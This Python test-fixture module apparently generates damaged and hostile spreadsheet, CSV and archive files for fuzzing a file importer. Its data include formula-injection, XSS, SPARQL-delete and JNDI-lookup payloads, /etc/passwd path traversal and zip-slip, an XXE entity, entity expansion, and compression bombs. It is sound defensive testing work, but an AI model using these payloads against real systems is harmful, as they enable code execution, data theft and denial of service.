"""Damaged landscape files, made anew from one seed: every way in which exports, transfers and people spoil a file."""

import gzip
import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import openpyxl

SEED = 20261121
HEADER = "tool,homepage,category,occurrences"
ROWS = [f"Tool {number},https://tool{number}.example.com,seo,{number}" for number in range(40)]
GOOD = "\n".join([HEADER, *ROWS, ""]).encode()
HOSTILE = {
    "formula": "=cmd|' /C calc'!A0",
    "formula of plus": "+1+cmd|' /C calc'!A0",
    "formula of at": "@SUM(1+1)*cmd",
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "SPARQL": 'x" } ; DELETE WHERE { ?s ?p ?o } #',
    "Turtle": "x> a <https://evil.example> . <y",
    "escape sequence": "\x1b[2J\x1b[31mred",
    "bell": "a\x07b",
    "path": "../../../../etc/passwd",
    "long dash": "\u2014" * 300,
    "right to left": "\u202egnp.exe",
    "zero width": "a\u200bb",
    "combining": "Z\u0351\u036b\u0343" * 50,
    "template": "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "quotes": "'\"`\u201c\u201d",
    "backslashes": "\\\\\\;\\",
    "only signs": "!!!",
    "very long": "n" * 100_000,
}
ADDRESSES = [
    "https://exa mple.com",
    'https://example.com/"onclick="x',
    "https://example.com/<script>",
    "javascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "data:text/html,x",
    "https://[::1",
    "https://example.com:99999999/x y",
    "//example.com",
    "https://",
    "http://\u2100.example",
    "https://example.com/\\..\\x",
    "ftp://example.com",
    "https://example.com/{a}|b^c",
]
NUMBERS = ["-5", "1.5", "1e9", "\u0663", "9" * 5000, "0x10", "NaN", "1,000"]


def damaged() -> Iterator[tuple[str, bytes]]:
    """Yield the name and the bytes of each damaged file; the order and the bytes are always the same."""
    chance = random.Random(SEED)  # noqa: S311 - repeatable, not secret
    for family in (_cut, _flipped, _nuls, _encodings, _delimiters, _shapes, _cells, _archives, _workbooks, _kinds):
        yield from family(chance)


def _cut(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    quoted = b'tool,category\n"A ""quoted"" one","seo"\n' * 1 + b'"B","seo"\n' * 30
    for kind, data in {"plain": GOOD, "quoted": quoted, "utf-16": GOOD.decode().encode("utf-16")}.items():
        for _ in range(6):
            at = chance.randrange(1, len(data))
            yield f"{kind} cut at {at}.csv", data[:at]


def _flipped(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    for kind, data in {"plain": GOOD, "gzip": gzip.compress(GOOD, mtime=0), "zip": _zip({"a.csv": GOOD})}.items():
        for number in range(8):
            spoiled = bytearray(data)
            for _ in range(1 + number):
                spoiled[chance.randrange(len(spoiled))] = chance.randrange(256)
            yield f"{kind} with {number + 1} bytes changed.csv", bytes(spoiled)


def _nuls(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    for number in (1, 3, 50):
        spoiled = bytearray(GOOD)
        for _ in range(number):
            spoiled.insert(chance.randrange(len(spoiled)), 0)
        yield f"{number} NUL bytes.csv", bytes(spoiled)
    yield "NUL bytes late.csv", GOOD + b"Plain,https://p.example.com,seo,1\n" * 300 + b"N\0ul,,seo,1\n"
    yield "nothing but NUL bytes.csv", bytes(10_000)


def _encodings(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    text = "tool,category\nCafé,seo\nPlain,seo\n"
    for one, other in (("utf-8", "cp1252"), ("cp1252", "utf-8"), ("utf-8", "utf-16-le"), ("utf-16", "utf-8")):
        yield f"{one} followed by {other}.csv", text.encode(one) + text.encode(other)
    for mark in (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0", b"\xef\xbb\xbf\xef\xbb\xbf"):
        yield f"mark {mark.hex()} before other bytes.csv", mark + GOOD
        yield f"mark {mark.hex()} alone.csv", mark
    yield "UTF-16 of odd length.csv", GOOD.decode().encode("utf-16")[:-1]
    yield "lone surrogates.csv", b"tool,category\nA\xed\xa0\x80,seo\n"
    yield "overlong UTF-8.csv", b"tool,category\nA\xc0\xaf,seo\n"
    yield "UTF-7.csv", "tool,category\nCafé,seo\n".encode("utf-7")
    yield "random bytes.csv", chance.randbytes(5000)
    yield "random bytes without NUL.csv", bytes(chance.randrange(1, 256) for _ in range(5000))


def _delimiters(_chance: random.Random) -> Iterator[tuple[str, bytes]]:
    for name, mark in {"colon": ":", "tilde": "~", "two spaces": "  ", "caret": "^", "unit": "\x1f"}.items():
        yield f"separated by {name}.csv", GOOD.replace(b",", mark.encode())
    yield "separators that change.csv", GOOD[:400] + GOOD[400:].replace(b",", b";")
    yield "sep line that lies.csv", b"sep=;\n" + GOOD
    yield "sep line alone.csv", b"sep=;\n"
    yield "only separators.csv", b",,,\n" * 50
    yield "only quotes.csv", b'"' * 1001
    yield "quote in the header.csv", b'"tool,category\nA,seo\n'
    yield "text after a quote.csv", b'tool,category\n"A"x,seo\n'
    yield "quote that never ends.csv", GOOD + b'"Open,https://o.example.com,seo,1\n' + GOOD


def _shapes(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    yield "empty.csv", b""
    yield "blank lines.csv", b"\n\r\n  \n\t\n"
    yield "header only.csv", f"{HEADER}\n".encode()
    yield "header without line end.csv", HEADER.encode()
    yield "no header.csv", "\n".join(ROWS).encode()
    yield "header twice.csv", f"{HEADER}\n{HEADER}\n{ROWS[0]}\n".encode()
    yield "column twice.csv", b"tool,tool,category\nA,B,seo\n"
    yield "column blank.csv", b"tool,,category,\nA,x,seo,y\n"
    yield "10,000 columns.csv", b"tool,category," + b",".join(b"c%d" % n for n in range(9998)) + b"\nA,seo\n"
    yield "100,000 columns in one row.csv", b"tool,category\nA,seo" + b"," * 100_000 + b"x\n"
    yield "100,000 blank columns in one row.csv", b"tool,category\nA,seo" + b"," * 100_000 + b"\n"
    yield "one column.csv", b"tool\nA\nB\n"
    yield "duplicated rows.csv", GOOD + GOOD[len(HEADER) + 1 :]
    yield "a cell of two million characters.csv", GOOD + b"x" * 2_000_000 + b",,seo,1\n"
    yield "a quoted cell of two million lines.csv", GOOD + b'"' + b"\n" * 2_000_000
    yield "a row of endless quoted line ends.csv", b"tool,category\n" + b'"\n",' * 3_000_000
    for number in range(6):
        lines = [HEADER, *ROWS]
        chance.shuffle(lines)
        yield f"lines out of order {number}.csv", "\n".join(lines).encode()
    for number in range(8):
        lines = [line + "," * chance.randrange(3) if chance.random() < 0.5 else line[: len(line) // 2] for line in ROWS]
        yield f"ragged {number}.csv", "\n".join([HEADER, *lines]).encode()


def _cells(_chance: random.Random) -> Iterator[tuple[str, bytes]]:
    for name, value in HOSTILE.items():
        quoted = '"' + value.replace('"', '""') + '"'
        yield f"{name} as name.csv", f"{HEADER}\n{quoted},,seo,1\n{ROWS[0]}\n".encode()
        yield f"{name} as category.csv", f"{HEADER}\nA,,{quoted},1\n{ROWS[0]}\n".encode()
        yield f"{name} as header.csv", f"tool,category,{quoted}\nA,seo,x\n".encode()
    for number, value in enumerate(ADDRESSES):
        quoted = '"' + value.replace('"', '""') + '"'
        yield f"address {number}.csv", f"{HEADER}\nA,{quoted},seo,1\n{ROWS[0]}\n".encode()
    for number, value in enumerate(NUMBERS):
        yield f"number {number}.csv", f'{HEADER}\nA,,seo,"{value}"\n{ROWS[0]}\n'.encode()


def _archives(_chance: random.Random) -> Iterator[tuple[str, bytes]]:
    zipped, gzipped = _zip({"a.csv": GOOD}), gzip.compress(GOOD, mtime=0)
    yield "zip in zip.zip", _zip({"a.zip": zipped})
    yield "gzip in zip.zip", _zip({"a.gz": gzipped})
    yield "zip in gzip.gz", gzip.compress(zipped)
    yield "gzip in gzip.gz", gzip.compress(gzipped)
    yield "two tables.zip", _zip({"a.csv": GOOD, "b.csv": GOOD})
    yield "no table.zip", _zip({})
    yield "only litter.zip", _zip({"__MACOSX/._a.csv": b"x"})
    yield "path that leaves the folder.zip", _zip({"../../etc/passwd": GOOD})
    yield "empty member.zip", _zip({"a.csv": b""})
    yield "workbook in zip.zip", _zip({"a.xlsx": _workbook()})
    yield "half a zip.zip", zipped[: len(zipped) // 2]
    yield "half a gzip.gz", gzipped[: len(gzipped) // 2]
    yield "gzip with wrong checksum.gz", gzipped[:-8] + b"\0" * 8
    yield "gzip with text behind.gz", gzipped + b"trailing"
    yield "gzip header alone.gz", gzipped[:10]
    yield "zip with password.zip", _flagged(zipped)
    yield "zip bomb.zip", _zip({"a.csv": b"tool,category\n" + b"A,seo\n" * 15_000_000})
    yield "gzip bomb.gz", gzip.compress(b"tool,category\n" + b"\n" * 90_000_000, mtime=0)
    yield "gzip bomb in one line.gz", gzip.compress(b"tool,category\n" + b"A" * 90_000_000, mtime=0)
    yield "raw deflate.gz", zlib.compress(GOOD)


def _workbooks(_chance: random.Random) -> Iterator[tuple[str, bytes]]:
    book = _workbook()
    yield "half a workbook.xlsx", book[: len(book) // 2]
    yield "workbook that is a zip.xlsx", _zip({"a.csv": GOOD, "b.txt": b"x"})
    yield "workbook that is a table.xlsx", GOOD + b"Extra,not an address,seo,1\n"
    yield "workbook without sheets.xlsx", _edited(book, {"xl/worksheets/sheet1.xml": None})
    yield "workbook without relations.xlsx", _edited(book, {"xl/_rels/workbook.xml.rels": None})
    yield "workbook without types.xlsx", _edited(book, {"[Content_Types].xml": None})
    yield "sheet that is no XML.xlsx", _edited(book, {"xl/worksheets/sheet1.xml": b"not XML"})
    yield "sheet that is cut.xlsx", _edited(book, {"xl/worksheets/sheet1.xml": lambda data: data[: len(data) // 2]})
    # openpyxl writes strings into the sheet; other programs write them into a table of their own.
    cell = b'<c t="s"><v>%d</v></c>'
    sheet = b"<sheetData>" + (b"<row>" + cell % 0 + cell % 1 + b"</row>") * 3 + b"</sheetData>"
    space = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    texts = strings + b"<si><t>tool</t></si><si><t>category</t></si></sst>"
    book = _edited(book, {"xl/worksheets/sheet1.xml": space + sheet + b"</worksheet>", "xl/sharedStrings.xml": texts})
    yield "strings in a table.xlsx", book
    yield "strings that are cut.xlsx", _edited(book, {"xl/sharedStrings.xml": lambda data: data[: len(data) // 2]})
    yield "strings that are missing.xlsx", _edited(book, {"xl/sharedStrings.xml": strings + b"</sst>"})
    yield "styles that are no XML.xlsx", _edited(book, {"xl/styles.xml": b"<"})
    entity = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    yield (
        "entities that grow.xlsx",
        _edited(book, {"xl/sharedStrings.xml": entity + b"]>" + strings + b"<si><t>&j;</t></si></sst>"}),
    )
    outside = (
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        + strings
        + b"<si><t>&a;</t></si><si><t>category</t></si></sst>"
    )
    yield "entity from outside.xlsx", _edited(book, {"xl/sharedStrings.xml": outside})
    bomb = strings + b"<si><t>x</t></si>" * 6_000_000 + b"</sst>"
    yield "workbook bomb.xlsx", _edited(book, {"xl/sharedStrings.xml": bomb})
    yield "empty workbook.xlsx", _workbook([])
    yield "header only.xlsx", _workbook([HEADER.split(",")])
    yield "formulas.xlsx", _workbook([HEADER.split(","), ["=1+1", None, "seo", 1], ["A", "=HYPERLINK(1)", "seo", 1]])
    yield "errors in cells.xlsx", _workbook([HEADER.split(","), ["#REF!", "#N/A", "seo", "#DIV/0!"]])


def _kinds(_chance: random.Random) -> Iterator[tuple[str, bytes]]:
    yield "web page.csv", b"<!DOCTYPE html><html><body>404</body></html>"
    yield "XML.csv", b'<?xml version="1.0"?><a/>'
    yield "JSON.csv", b'{"tool": "A"}'
    yield "PDF.csv", b"%PDF-1.7\n%\xe2\xe3"
    yield "picture.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
    yield "old workbook.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    yield "database.csv", b"SQLite format 3\0" + bytes(100)
    yield "Parquet.csv", b"PAR1" + bytes(100) + b"PAR1"
    yield "document.ods", _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"})
    yield "program.csv", b"\x7fELF\2\1\1" + bytes(200)
    yield "prose.csv", b"Dear all,\n\nplease find the list, as promised; it is attached.\n\nRegards\n"


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, (2026, 11, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def _flagged(archive: bytes) -> bytes:
    """Return the archive with its member marked as encrypted, in both of its headers."""
    spoiled = bytearray(archive)
    spoiled[6] |= 1
    spoiled[archive.index(b"PK\x01\x02") + 8] |= 1
    return bytes(spoiled)


def _workbook(rows: Sequence[Sequence[object]] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book["Sheet"]
    for row in [line.split(",") for line in (HEADER, *ROWS)] if rows is None else rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _edited(book: bytes, edits: dict[str, bytes | Callable[[bytes], bytes] | None]) -> bytes:
    """Return the workbook with members replaced, changed, or, by None, left out."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for name, edit in edits.items():
        old = members.pop(name, b"")
        if edit is not None:
            members[name] = edit(old) if callable(edit) else edit
    return _zip(members)


def write_one_cell(file: Path, size: int) -> None:
    """Write a table with one cell of `size` characters, a little at a time."""
    with file.open("wb") as handle:
        handle.write(b"tool,category\n")
        for _ in range(size >> 20):
            handle.write(b"x" * (1 << 20))
        handle.write(b",seo\n")
